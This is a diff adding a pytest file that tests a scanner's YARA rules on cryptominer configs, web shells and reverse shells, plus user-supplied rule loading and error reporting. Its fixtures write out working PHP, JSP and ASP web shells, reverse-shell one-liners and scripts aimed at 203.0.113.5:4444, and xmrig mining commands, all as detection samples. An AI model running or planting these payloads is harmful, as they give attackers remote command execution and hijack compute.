@@ -1,0 +1,134 @@
+"""The shipped rules know what they are for and nothing near it; the user's rules are told apart, with file and line."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from soc2.detectors.secrets import Scanner
+from soc2.errors import UsageError
+from soc2.gather.registry.inspection import Inspector, image_rules
+from soc2.gather.registry.secrets import ScannedSecrets
+from soc2.gather.registry.yara_rules import load_rules
+from tests.registry.pulling import EICAR
+
+INSPECTOR = Inspector(image_rules(), ScannedSecrets(Scanner()))
+# What must not stand in a repository as it is stands in here without its middle.
+MALICIOUS = {
+    "mining_pool": [
+        '{"url": "stratum+tcp://pool.example.org:3333"}',
+        "exec miner -o stratum+ssl://eu.pool.example:443 -u wallet",
+    ],
+    "mining_program": ["\x7fELF\0\0donate-level\0randomx\0"],
+    "mining_configuration": [
+        '{"pools": [{"algo": "rx/0", "coin": "monero", "url": "a:1"}], "donate-level": 1}',
+        "./xmrig --threads=4 -o pool.example:3333 -u 4Axx",
+    ],
+    "web_shell_php": [
+        "<?php @eval(base64_decode($_POST['c'])); ?>",
+        '<?php system($_GET["cmd"]);',
+        "<?= `$_GET[0]` ?>",
+        "<?php $_GET['f']($_POST['a']);",
+        "<?php assert ( $_REQUEST['x'] );",
+        "<?php preg_replace('/.*/e', $_POST['c'], '');",
+        "<?php eval(gzinflate(base64_decode($_COOKIE['p'])));",
+    ],
+    "web_shell_jsp": [
+        '<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>',
+        '<%@ page %><% String c = request.getParameter("c"); Process p = Runtime.getRuntime().exec(c); %>',
+        '<% new ProcessBuilder("sh", "-c", request.getParameter("c")).start(); %>',
+    ],
+    "web_shell_asp": ['<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>', '<% Execute(Request("c")) %>'],
+    "reverse_shell_command": [
+        "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
+        "sh -i 5<> /dev/udp/c2.example/53 0<&5 1>&5 2>&5",
+        "0<&196;exec 196<>/dev/tcp/203.0.113.5/4444; sh <&196 >&196 2>&196",
+        "nc -e /bin/sh 203.0.113.5 4444",
+        "ncat --exec /bin/bash 203.0.113.5 4444",
+        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f",
+        "socat exec:'bash -li',pty,stderr tcp:203.0.113.5:4444",
+        'php -r \'$s=fsockopen("203.0.113.5",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'',
+    ],
+    "reverse_shell_script": [
+        "import socket,subprocess,os\ns=socket.socket()\ns.connect(('203.0.113.5',4444))\nos.dup2(s.fileno(),0)\n"
+        "os.dup2(s.fileno(),1)\nimport pty; pty.spawn('/bin/bash')\n",
+        "import socket,subprocess,os;s=socket.socket();s.connect((h,p));[os.dup2(s.fileno(),f) for f in (0,1,2)];"
+        'subprocess.call(["/bin/sh","-i"])',
+        'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,">&S");exec("/bin/sh -i");',
+        "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.5',4444);$s = $c.GetStream();iex $d",
+    ],
+}
+OURS = 'rule ours { meta: description = "our own" strings: $a = "northwind" condition: $a }'
+HARMLESS = [
+    "curl -fsS http://localhost:8080/health || exit 1",
+    "exec 3<>/dev/tcp/127.0.0.1/8080; echo -e 'GET / HTTP/1.1' >&3; cat <&3",
+    "- macro: mining\n  condition: proc.cmdline contains stratum+tcp",
+    "The protocol stratum+tcp is described elsewhere; randomx is an algorithm, and xmrig a program.",
+    "<?php echo htmlspecialchars($_POST['name']); ?>",
+    "<?php $statement = $db->exec($_GET); $x = curl_exec($handle); ?>",
+    '<% String name = request.getParameter("name"); out.println(name); %>',
+    "Process p = Runtime.getRuntime().exec(command);",
+    "import socket\ns.connect(('db', 5432))\nos.dup2(log.fileno(), 1)\nsubprocess.run(['/usr/bin/env'])\n",
+    "nc -z db 5432 && echo ready",
+    "nc -l 8080 > /dev/null; bash -i",
+    "socat TCP-LISTEN:80,fork TCP:backend:8080",
+    "eval(parser.read()); assert(x == $_ENV['A'])",
+    "connect(socket, &address); open(STDIN, '<', '/dev/null'); exec('/bin/true')",
+]
+
+
+@pytest.mark.parametrize(("rule", "text"), [(rule, text) for rule, texts in MALICIOUS.items() for text in texts])
+def test_malicious_texts_are_known(rule: str, text: str) -> None:
+    assert rule in {name for name, _ in INSPECTOR.inspect("srv/file", text.encode("latin-1")).rules}
+
+
+@pytest.mark.parametrize("text", [*HARMLESS, EICAR.decode() + "x" * 61, "x" + EICAR.decode()])
+def test_harmless_texts_are_not(text: str) -> None:
+    assert INSPECTOR.inspect("srv/file", text.encode()).rules == ()
+
+
+def test_the_test_file_is_known_with_blanks_behind_it() -> None:
+    for end in (b"", b"\n", b"\r\n", b" " * 60):
+        assert INSPECTOR.inspect("a", EICAR + end).rules == (("eicar_test_file", "test file for scanners of malware"),)
+
+
+def test_rules_of_the_user_are_asked_too(tmp_path: Path) -> None:
+    (tmp_path / "below").mkdir()
+    (tmp_path / "below" / "ours.yara").write_text(
+        'rule ours { meta: description = "our own" strings: $a = "northwind" condition: $a }'
+    )
+    # The same name in another file is another rule.
+    (tmp_path / "more.yar").write_text("rule ours { condition: false }")
+    inspector = Inspector(image_rules((str(tmp_path),)), ScannedSecrets(Scanner()))
+    assert inspector.inspect("a", b"northwind").rules == (("ours", "our own"),)
+    assert load_rules((str(tmp_path),)).key != load_rules().key
+
+
+@pytest.mark.parametrize(
+    ("source", "line", "what"),
+    [
+        (
+            "rule a {\n  condition:\n    x\n}\n",
+            3,
+            "no valid YARA rule: unknown identifier `x`: this identifier has not been declared",
+        ),
+        ("rule a { condition: true }\nrule a { condition: true }\n", 2, "no valid YARA rule: duplicate rule `a`"),
+        ("\n\nrule a { strings: $a = /(/ condition: $a }", 3, "no valid YARA rule: invalid regular expression"),
+        ('include "other.yar"\n', 1, "no valid YARA rule: "),
+        ("<html>", 1, "no valid YARA rule: syntax error"),
+    ],
+)
+def test_a_broken_rule_is_told_with_file_and_line(tmp_path: Path, source: str, line: int, what: str) -> None:
+    file = tmp_path / "broken.yar"
+    file.write_text(source)
+    with pytest.raises(UsageError) as raised:
+        load_rules((str(tmp_path),))
+    assert (raised.value.file, raised.value.line) == (file, line)
+    assert raised.value.what.startswith(what)
+
+
+def test_a_rule_that_is_no_text_is_told(tmp_path: Path) -> None:
+    (tmp_path / "broken.yar").write_bytes(b"\xff\xfe")
+    with pytest.raises(UsageError, match=r"broken\.yar: cannot be read"):
+        load_rules((str(tmp_path),))
